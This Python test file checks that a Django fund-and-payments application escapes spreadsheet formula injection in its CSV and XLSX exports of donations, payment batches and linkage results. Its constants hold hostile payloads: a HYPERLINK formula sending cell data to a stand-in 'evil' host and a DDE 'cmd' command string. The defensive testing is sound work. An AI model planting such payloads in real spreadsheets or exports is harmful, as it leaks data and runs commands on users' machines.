"""Formula injection: every CSV and XLSX export writes text a spreadsheet would run as a formula (it
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) with a leading apostrophe, and
leaves numbers numbers."""

import csv
import io
from datetime import date
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from amends.banking import pain
from amends.banking import services as banking
from amends.core.exports import safe_cell, safe_row, writer
from amends.fund import services as fund
from amends.rosters import services as rosters
from amends.rosters.models import Application
from tests.fund.conftest import _english, approved_claim, case, creditors, staff  # noqa: F401 (fixtures)
from tests.rosters.conftest import imported, synthetic  # noqa: F401 (fixtures)

HYPERLINK = '=HYPERLINK("http://evil/?x="&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, CMD, "@SUM(1)", "-1+1", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-5, 0, 4_000_000_000, 1.5, None, date(2023, 3, 1), "POSCO", "김영수", "", "a=b"]
)
def test_numbers_dates_and_harmless_text_are_left_alone(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_the_csv_writer_neutralises_every_text_cell_and_keeps_numbers():
    out = StringIO()
    csv_writer = writer(out, lineterminator="\n")
    csv_writer.writerow(["ref", "amount"])
    csv_writer.writerows([[HYPERLINK, -5], ["=1+1", 7]])
    assert list(csv.reader(StringIO(out.getvalue()))) == [
        ["ref", "amount"],
        ["'" + HYPERLINK, "-5"],
        ["'=1+1", "7"],
    ]
    assert safe_row([CMD, -1]) == ["'" + CMD, -1]


# The finance reports (/fund/reports/<slug>/?format=csv|xlsx): a donor's name is typed by staff.


@pytest.fixture
def hostile_donations(staff):  # noqa: F811
    # (names and notes are stripped when recorded: a leading tab is covered by the unit tests above)
    for day, name in enumerate([HYPERLINK, CMD, "@SUM(1)", "-1+1"], start=1):
        donor = fund.donor_create(name=name, by=staff["park"])
        fund.contribution_record(
            donor=donor,
            kind="receipt",
            amount=1_000_000,
            on=date(2023, 3, day),
            by=staff["park"],
            note="=1+1",
        )


def test_the_donations_xlsx_holds_the_donor_as_text_not_a_formula(client, staff, hostile_donations):  # noqa: F811
    client.force_login(staff["jung"])
    response = client.get("/fund/reports/donations/", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    donors = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in donors] == ["'" + HYPERLINK, "'" + CMD, "'@SUM(1)", "'-1+1"]
    assert all(cell.data_type == "s" for cell in donors)  # a string cell, not "f" (a formula)
    # and the amounts stay numbers
    assert [row[3].value for row in sheet.iter_rows(min_row=2)] == [1_000_000] * 4
    assert all(row[3].data_type == "n" for row in sheet.iter_rows(min_row=2))
    assert [row[6].value for row in sheet.iter_rows(min_row=2)] == ["'=1+1"] * 4


def test_the_donations_csv_holds_the_donor_with_an_apostrophe(client, staff, hostile_donations):  # noqa: F811
    client.force_login(staff["jung"])
    text = client.get("/fund/reports/donations/", {"format": "csv"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert [row[1] for row in rows] == ["'" + HYPERLINK, "'" + CMD, "'@SUM(1)", "'-1+1"]
    assert [row[6] for row in rows] == ["'=1+1"] * 4  # and the note
    assert [row[3] for row in rows] == ["1000000"] * 4


# The payment batch CSV (web, API and `amends bank batch export --format csv`): the holder's name.


@pytest.fixture
def hostile_batch(creditors, staff, monkeypatch):  # noqa: F811
    monkeypatch.setattr("amends.banking.services.batches.today", lambda: date(2023, 4, 14))
    approved_claim(creditors[0], staff)
    banking.payee_account_record(
        creditor=creditors[0],
        by=staff["park"],
        holder=HYPERLINK,
        bank_code="004",
        account_number="123-456-789012",
    )
    return banking.batch_create(by=staff["choi"], execution_on=date(2023, 4, 14))


def test_the_batch_csv_holds_the_holder_with_an_apostrophe(hostile_batch):
    header, row = list(csv.reader(StringIO(pain.batch_csv(hostile_batch))))
    assert row[header.index("holder")] == "'" + HYPERLINK
    assert row[header.index("name_as_sent")] == "'" + HYPERLINK
    assert row[header.index("amount")].isdigit()


def test_the_batch_csv_downloaded_from_the_web_is_neutralised(client, staff, hostile_batch):  # noqa: F811
    client.force_login(staff["choi"])
    response = client.get(reverse("banking:batch_download", args=[hostile_batch.pk, "csv"]))
    assert response.status_code == 200
    header, row = list(csv.reader(StringIO(b"".join(response).decode("utf-8-sig"))))
    assert row[header.index("holder")] == "'" + HYPERLINK


# The linkage export (`amends linkage export --format csv`): the application refs come from the file
# the foundation imported.


def test_the_linkage_export_holds_hostile_refs_with_an_apostrophe(imported):  # noqa: F811
    run = rosters.linkage_run_execute(run=rosters.linkage_run_create(threshold=0.5, by=None))
    refs = list(run.pairs.filter(probability__gte=0.5).values_list("application__ref", flat=True)[:2])
    Application.objects.filter(ref=refs[0]).update(ref="=1+1")
    Application.objects.filter(ref=refs[1]).update(ref=CMD)
    out = StringIO()
    call_command("linkage", "export", "--format", "csv", stdout=out)
    exported = {row[0] for row in csv.reader(StringIO(out.getvalue()))}
    assert {"'=1+1", "'" + CMD} <= exported
    assert not exported & {"=1+1", CMD}
